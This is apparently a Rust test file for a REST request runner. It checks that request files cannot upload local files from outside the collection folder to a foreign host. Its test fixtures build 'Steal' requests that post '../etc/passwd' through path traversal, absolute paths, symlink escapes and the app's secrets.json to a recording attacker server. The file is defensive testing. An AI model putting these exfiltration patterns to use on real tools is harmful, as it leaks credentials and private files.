//! 2. A request file can read any local file and send it anywhere: a raw or multipart
//!    `file:` body of `../../etc/passwd`, an absolute path, or a symlink inside the
//!    collection pointing out of it; even the app's own `secrets.json`. Now every body
//!    file must lead (symlinks followed, `..` resolved) inside the collection folder, or
//!    be allowed with `--allow-file PATH`; the app's own folders are never read. A refusal
//!    names the path and the flag; nothing reaches the foreign host; no file's content is
//!    printed.

use std::path::{Path, PathBuf};

use crate::kit::{Run, arg, collection, foreign_server, run, run_at_home, write};
use crate::support::recording_server::RecordingServer;

/// What the private file outside the collection holds: it must never reach an output.
const CONTENT: &str = "private-file-content-4e1f9c";

/// A folder outside any collection with a private file in it.
fn private_file() -> (tempfile::TempDir, PathBuf) {
    let dir = tempfile::tempdir().expect("temp dir");
    let path = write(dir.path(), "private/credentials.txt", CONTENT);
    let real = std::fs::canonicalize(&path).expect("real path");
    (dir, real)
}

/// A request that posts the file `file` as its raw body to `url`.
fn raw_body(url: &str, file: &str) -> String {
    format!(
        "name: Steal\nmethod: POST\nurl: {url}/collect\nbody:\n  mode: file\n  file: '{file}'\n"
    )
}

/// A request that posts a form with the file field `file` to `url`.
fn form_body(url: &str, file: &str) -> String {
    format!(
        "name: Steal form\nmethod: POST\nurl: {url}/collect\nbody:\n  mode: multipart\n  \
         form:\n    - name: note\n      value: hello\n    - name: upload\n      file: '{file}'\n"
    )
}

/// Fails unless `result` refused the file named `named` (leading to `real`) as outside the
/// collection, said how to allow it, and `attacker` received nothing.
fn assert_refused_outside(result: &Run, attacker: &RecordingServer, named: &str, real: &Path) {
    assert_eq!(result.code, 1, "{}", result.all());
    let out = &result.stdout;
    assert!(
        out.contains(&format!("The file {named}")),
        "{}",
        result.all()
    );
    assert!(out.contains("is outside the collection folder"), "{out}");
    assert!(out.contains("Nothing was sent"), "{out}");
    assert!(
        out.contains(&format!("pass --allow-file {}", real.display())),
        "{out}"
    );
    assert!(
        attacker.received().is_empty(),
        "nothing may reach the foreign host"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn a_dot_dot_path_to_etc_passwd_is_refused() {
    let attacker = foreign_server().await;
    let climb = format!("{}etc/passwd", "../".repeat(24));
    let dir = collection(&[("steal.yml", &raw_body(&attacker.url, &climb))]);
    let result = run(vec![arg(dir.path())], Vec::new()).await;
    assert_refused_outside(
        &result,
        &attacker,
        &format!("{climb} (which leads to /etc/passwd)"),
        Path::new("/etc/passwd"),
    );
    let first_line = std::fs::read_to_string("/etc/passwd")
        .ok()
        .and_then(|text| text.lines().next().map(str::to_owned))
        .unwrap_or_default();
    if !first_line.is_empty() {
        result.assert_reveals_none(&[&first_line]);
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn an_absolute_path_outside_is_refused() {
    let attacker = foreign_server().await;
    let (_outside, private) = private_file();
    let file = private.to_string_lossy().into_owned();
    let dir = collection(&[("steal.yml", &raw_body(&attacker.url, &file))]);
    let result = run(vec![arg(dir.path())], Vec::new()).await;
    assert_refused_outside(&result, &attacker, &file, &private);
    result.assert_reveals_none(&[CONTENT]);
}

#[cfg(unix)]
#[tokio::test(flavor = "multi_thread")]
async fn a_symlink_inside_the_collection_pointing_out_is_refused() {
    let attacker = foreign_server().await;
    let (_outside, private) = private_file();
    let dir = collection(&[("steal.yml", &raw_body(&attacker.url, "files/report.pdf"))]);
    std::fs::create_dir_all(dir.path().join("files")).expect("folder");
    std::os::unix::fs::symlink(&private, dir.path().join("files/report.pdf")).expect("link");
    let result = run(vec![arg(dir.path())], Vec::new()).await;
    assert_refused_outside(
        &result,
        &attacker,
        &format!("files/report.pdf (which leads to {})", private.display()),
        &private,
    );
    result.assert_reveals_none(&[CONTENT]);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_form_file_field_outside_is_refused() {
    let attacker = foreign_server().await;
    let (_outside, private) = private_file();
    let file = private.to_string_lossy().into_owned();
    let dir = collection(&[("steal.yml", &form_body(&attacker.url, &file))]);
    let result = run(vec![arg(dir.path())], Vec::new()).await;
    assert_refused_outside(&result, &attacker, &file, &private);
    result.assert_reveals_none(&[CONTENT]);
}

/// The app's data folder as the runner finds it under `home` (XDG, as the kit sets it).
#[cfg(target_os = "linux")]
fn data_folder(home: &Path) -> PathBuf {
    home.join("data/ayon-rest-explorer")
}

#[cfg(target_os = "linux")]
#[tokio::test(flavor = "multi_thread")]
async fn the_apps_own_secrets_file_is_never_sent_even_when_allowed() {
    let secret = "stored-secret-value-90b2d7";
    let attacker = foreign_server().await;
    let home = tempfile::tempdir().expect("home");
    let data = data_folder(home.path());
    let secrets = write(
        &data,
        "secrets.json",
        &format!("{{\"collection\": {{\"token\": \"{secret}\"}}}}"),
    );
    let secrets_text = secrets.to_string_lossy().into_owned();
    let dir = collection(&[
        ("1-direct.yml", &raw_body(&attacker.url, &secrets_text)),
        ("2-linked.yml", &form_body(&attacker.url, "files/notes.txt")),
    ]);
    std::fs::create_dir_all(dir.path().join("files")).expect("folder");
    std::os::unix::fs::symlink(&secrets, dir.path().join("files/notes.txt")).expect("link");
    let args = vec![
        arg(dir.path()),
        "--allow-file".into(),
        secrets_text.clone(),
        "--allow-file".into(),
        arg(home.path()),
    ];
    let result = run_at_home(home.path(), args, Vec::new()).await;
    assert_eq!(result.code, 1, "{}", result.all());
    let refusal = format!("is in the app's own folder {}", data.display());
    assert_eq!(
        result.stdout.matches(&refusal).count(),
        2,
        "both requests refused:\n{}",
        result.all()
    );
    assert!(
        result
            .stdout
            .contains("never sent as a body, even when allowed"),
        "{}",
        result.all()
    );
    assert!(result.stdout.contains(&format!("The file {secrets_text}")));
    assert!(attacker.received().is_empty(), "nothing may reach the host");
    result.assert_reveals_none(&[secret]);
}

#[tokio::test(flavor = "multi_thread")]
async fn allow_file_lets_a_real_outside_file_through() {
    let server = foreign_server().await;
    let (outside, private) = private_file();
    let file = private.to_string_lossy().into_owned();
    let dir = collection(&[
        ("1-raw.yml", &raw_body(&server.url, &file)),
        ("2-form.yml", &form_body(&server.url, &file)),
    ]);
    // The file itself, then its whole folder.
    for allowed in [private.clone(), outside.path().join("private")] {
        let before = server.received().len();
        let args = vec![arg(dir.path()), "--allow-file".into(), arg(&allowed)];
        let result = run(args, Vec::new()).await;
        assert_eq!(result.code, 0, "{}", result.all());
        let received = server.received();
        assert_eq!(received.len(), before + 2, "{}", result.all());
        assert_eq!(received[before].body, CONTENT.as_bytes());
        let form = String::from_utf8_lossy(&received[before + 1].body).into_owned();
        assert!(form.contains(CONTENT), "the form carries the file");
        // Sent, but still never printed.
        result.assert_reveals_none(&[CONTENT]);
    }
}
